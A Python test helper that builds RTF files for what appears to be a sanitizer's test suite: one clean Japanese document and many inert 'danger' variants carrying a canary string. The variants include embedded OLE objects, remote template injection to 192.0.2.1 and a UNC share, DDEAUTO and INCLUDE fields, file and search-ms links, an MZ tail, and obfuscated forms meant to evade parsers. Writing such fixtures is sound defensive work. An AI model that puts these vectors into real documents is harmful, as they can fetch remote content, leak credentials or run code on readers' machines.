"""Small RTF files built by code: a clean Japanese one, and one per danger. Everything that looks dangerous is inert."""

from __future__ import annotations

import re
import struct
from typing import Final

from tests.build import image

CANARY: Final = "canary-7f3a"
FONTS: Final = (
    rb"{\fonttbl{\f0\froman\fcharset0\fprq2 Times New Roman;}{\f1\froman\fcharset128\fprq1{\*\falt MS Mincho} \'82\'6c\'82\'72 \'96\'be\'92\'a9;}"
    rb"{\f2\fnil\fcharset2 Symbol;}}{\colortbl;\red255\green0\blue0;}"
)  # fmt: skip
VISIBLE: Final = "無害化の試験"


def sjis(text: str) -> bytes:
    """As Japanese programs write it: bytes of the font's code page, also those of the second half that look like letters."""
    return b"".join(bytes((octet,)) if 0x30 <= octet < 0x5B else b"\\'%02x" % octet for octet in text.encode("cp932"))


def picture() -> bytes:
    png = image.saved(image.scene((24, 16)), "PNG")
    return b"{\\pict\\pngblip\\picw24\\pich16\\picwgoal720\\pichgoal480 " + png.hex().encode() + b"}"


def document(body: bytes, head: bytes = b"") -> bytes:
    return (
        b"{\\rtf1\\ansi\\ansicpg932\\uc2\\deff0\\deflang1033\\deflangfe1041" + FONTS + head + b"\\paperw11906\\paperh16838\\pard\\plain\\f1\\fs21 "
        + sjis(VISIBLE) + b"\\par\r\n" + body + b"}\r\n"
    )  # fmt: skip


def clean() -> bytes:
    """Headings, Japanese in three spellings, a table, a list, a header, a note, links, fields, a picture, a shape."""
    shape = (
        rb"{\shp{\*\shpinst\shpleft100\shptop200\shpright2100\shpbottom900\shpfhdr0\shpbxcolumn\shpbypara\shpwr3\shpwrk0\shpfblwtxt0\shpz0\shplid1026"
        rb"{\sp{\sn shapeType}{\sv 202}}{\sp{\sn fillColor}{\sv 16777215}}{\sp{\sn pVertices}{\sv 8;3;(0,0);(10,0);(-10,20)}}"
        rb"{\sp{\sn wzName}{\sv Text Box 1}}{\shptxt \pard\plain\f0 in a box\par}}{\shprslt\pard in a box\par}}"
    )  # fmt: skip
    body = (
        rb"{\header\pard\qr\f0 header {\field{\*\fldinst PAGE}{\fldrslt 1}}\par}"
        rb"\pard\plain\f1 " + sjis("表ソ能") + rb"{\u26085\'93\'fa\u26412\'96\'7b}{\uc0\u-3913 \uc1\u12354 ?}{\f2\'b7}\~\_\-\emdash\par "
        rb"\trowd\trgaph108\cellx4000\cellx8000\pard\intbl a\cell b\cell\row \pard\plain"
        rb'{\field{\*\fldinst{HYPERLINK "https://town.example.jp/"}}{\fldrslt{\ul\cf1 town}}}\par '
        rb"text{\super\chftn{\footnote\pard\plain\super\chftn  a note}}\par{\*\bkmkstart here}mark{\*\bkmkend here}\par "
        rb"{\*\shppict" + picture() + rb"}{\nonshppict" + picture() + rb"}\par " + shape + rb"\par end"
    )  # fmt: skip
    info = rb"{\info{\title " + sjis("題名") + rb"}{\version2}{\creatim\yr2026\mo11\dy21}}{\*\generator Writer 7;}{\*\rsidtbl\rsid1}"
    marks = rb"{\*\userprops{\propname MSIP_Label_1_Name}\proptype30{\staticval secret-2}}"
    styles = rb"{\stylesheet{\s0\f1\fs21 Normal;}{\*\cs10\additive Default;}}"
    return document(body, styles + info + marks)


def _ole(payload: bytes) -> bytes:
    """An object as Word writes one: version, kind, class name, and the data (MS-OLEDS §2.2.5)."""
    return struct.pack("<III", 0x0501, 2, 8) + b"Package\0" + struct.pack("<III", 0, 0, len(payload)) + payload


def _object(digits: bytes, more: bytes = b"\\objemb", kind: bytes = b"Package") -> bytes:
    return b"{\\object" + more + b"{\\*\\objclass " + kind + b"}{\\*\\objdata " + digits + b"}{\\result{\\pard shown}}}"


def _scattered(digits: bytes) -> bytes:
    """The same digits to a reader of objects, with everything between them that it passes over."""
    noise = (b"\r\n", b"\\-", b"{\\*\\zz junk}", b"{\\b}", b" ", b"\\pxe ", b"{\\object}", b"\t")
    return b"".join(digits[at : at + 6] + noise[at // 6 % len(noise)] for at in range(0, len(digits), 6))


_DATA: Final = _ole(CANARY.encode()).hex().encode()
_HEX: Final = CANARY.encode().hex().encode()
_C: Final = CANARY.encode()


def _field(instruction: bytes) -> bytes:
    return b"{\\field{\\*\\fldinst " + instruction + b"}{\\fldrslt shown}}"


DANGERS: Final[dict[str, bytes]] = {
    # R01, R02, R03
    "object": document(_object(_DATA)),
    "object in capitals": document(_object(_DATA.upper())),
    "object without stars": document(_object(_DATA).replace(b"\\*", b"")),
    "object scattered": document(_object(_scattered(_DATA))),
    "object in binary": document(_object(b"\\bin%d " % len(_ole(_C)) + _ole(_C))),
    "object that updates itself": document(_object(_DATA, b"\\objautlink\\objupdate", b"OLE2Link")),
    "object data alone": document(b"{\\*\\objdata " + _DATA + b"}"),
    "object behind formatting": document(b"{\\b\\i\\*\\objdata " + _DATA + b"}"),
    "control": document(_object(_DATA, b"\\objocx", b"MSComctlLib.ListViewCtrl.2")),
    # R04
    "template": document(b"", b"{\\*\\template http://192.0.2.1/" + _C + b".dotm}"),
    "template without a star": document(b"", b"{\\template \\\\\\\\192.0.2.1\\\\" + _C + b"}"),
    "next file": document(b"", b"{\\*\\nextfile " + _C + b".rtf}"),
    "file table": document(b"", b"{\\*\\filetbl{\\file\\fid1\\fnetwork " + _C + b"}}"),
    "mail merge": document(b"", b"{\\*\\mailmerge{\\mmconnectstr Provider=x;" + _C + b"}}"),
    # R05
    **{
        f"field {name.decode()}": document(_field(name + b' "c:\\\\\\\\x\\\\\\\\' + _C + b'" a'))
        for name in (
            b"DDEAUTO", b"DDE", b"dde", b"INCLUDEPICTURE", b"INCLUDETEXT", b"LINK", b"IMPORT", b"EMBED", b"DATABASE", b"RD", b"MACROBUTTON",
            b"FILLIN", b"AUTOTEXT", b"USERADDRESS",
        )
    },
    "field in pieces": document(_field(b"{\\b D}{\\i DE}{\\b0 AUTO} " + _C)),
    "field in unicode": document(_field(b"\\u68??\\u68??E " + _C)),
    "field in escapes": document(_field(b"\\'44\\'44\\'45 " + _C)),
    "field in control characters": document(_field(b"D\x1fD\x01E\x7f " + _C)),
    "field by another": document(_field(b"{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} " + _C)),
    "field inside a good one": document(_field(b'IF 1=1 "' + _field(b"DDEAUTO " + _C) + b'"')),
    "field without its group": document(b"{\\*\\fldinst DDEAUTO " + _C + b"}"),
    "link to a file": document(_field(b'HYPERLINK "file:///c:/' + _C + b'"')),
    "link to a share": document(_field(b'HYPERLINK "\\\\\\\\\\\\\\\\192.0.2.1\\\\\\\\' + _C + b'"')),
    "link to a handler": document(_field(b'HYPERLINK "search-ms:query=' + _C + b'"')),
    "link of a shape": document(
        b"{\\shp{\\*\\shpinst{\\sp{\\sn pihlShape}{\\sv {\\*\\hl{\\hlloc }{\\hlsrc file:///" + _C + b"}{\\hlfr x}}}}}}"
    ),
    # R07 and what else carries data
    "binary amid the text": document(b"\\bin%d " % len(_C) + _C),
    "binary in an unknown place": document(b"{\\*\\zzz\\bin%d " % len(_C) + _C + b"}"),
    "data store": document(b"", b"{\\*\\datastore " + _HEX + b"}"),
    "theme": document(b"{\\*\\docvar {x}{" + _C + b"}}", b"{\\*\\themedata " + _HEX + b"}"),
    "embedded font": document(b"").replace(b"{\\fonttbl", b"{\\fonttbl{\\f7\\fnil{\\*\\fontemb\\fttruetype " + _HEX + b"} x;}"),
    "private data": document(b"{\\*\\private " + _C + b"}"),
    "html": document(b"{\\*\\htmltag84 <script>" + _C + b"</script>}"),
    "custom xml": document(b"{\\*\\xmlopen\\xmlns1{\\xmlname " + _C + b"}}"),
    "macro of a form": document(_field(b"FORMTEXT {\\*\\formfield{\\fftype0{\\*\\ffname a}{\\*\\ffentrymcr " + _C + b"}}}")),
    "unknown destination": document(b"{\\*\\" + re.sub(rb"[^a-z]", b"", _C) + b" " + _C + b"}"),
    "shape fragments": document(b"{\\shp{\\*\\shpinst{\\sp{\\sn pFragments}{\\sv 9;9;" + _HEX * 30 + b"}}}}"),
    "shape points that do not fit": document(b"{\\shp{\\*\\shpinst{\\sp{\\sn pVertices}{\\sv 8;9;(1,1)" + _C + b"}}}}"),
    "shape points that are none": document(b"{\\shp{\\*\\shpinst{\\sp{\\sn pVertices}{\\sv 8;1;" + _C + b"}}}}"),
    "shape picture by name": document(b"{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv http://192.0.2.1/" + _C + b"}}}}"),
    "old drawing": document(b"{\\*\\do\\dobxpage{\\dptxbxtext " + _C + b"}\\dppolycount99999}"),
    "author": document(b"", b"{\\info{\\author " + _C + b"}{\\*\\company " + _C + b"}{\\doccomm " + _C + b"}{\\hlinkbase " + _C + b"}}"),
    "property of a person": document(b"", b"{\\*\\userprops{\\propname Owner}\\proptype30{\\staticval " + _C + b"}}"),
    "password": document(b"", b"{\\*\\passwordhash " + _C + b"}"),
    "behind the end": document(b"") + b"MZ" + _C,
    "second document": document(b"") + document(_object(_DATA)),
    "short header": document(_object(_DATA)).replace(b"{\\rtf1", b"{\\rt", 1),
    "picture with a tail": document(picture()[:-1] + _HEX + b"}"),
    "picture that is none": document(b"{\\pict\\pngblip " + _HEX + b"}"),
    "picture in binary": document(b"{\\pict\\wmetafile8\\bin%d " % len(_C) + _C + b"}"),
}


def hidden(data: bytes) -> bytes:
    """Everything that is folded up in a file: the digits with whatever stands between them passed over, and letters behind escapes."""
    bare = re.sub(rb"\{\\\*\\zz[^{}]*\}|\\[a-z]+-?[0-9]* ?|\\'|\\.|[{}\s]", b"", data)
    runs = b"".join(bytes.fromhex(run[: len(run) & ~1].decode()) + b"|" for run in re.findall(rb"[0-9A-Fa-f]{8,}", bare))
    odd = b"".join(bytes.fromhex(run[1 : len(run) - (len(run) - 1) % 2].decode()) + b"|" for run in re.findall(rb"[0-9A-Fa-f]{9,}", bare))
    escapes = re.sub(rb"\\'([0-9a-f]{2})", lambda match: bytes.fromhex(match[1].decode()), data)
    letters = re.sub(rb"\\u(-?[0-9]+) ?\??", lambda match: chr(int(match[1]) & 0xFF).encode("latin-1"), escapes)
    return b"\n".join((data, runs, odd, escapes, letters))
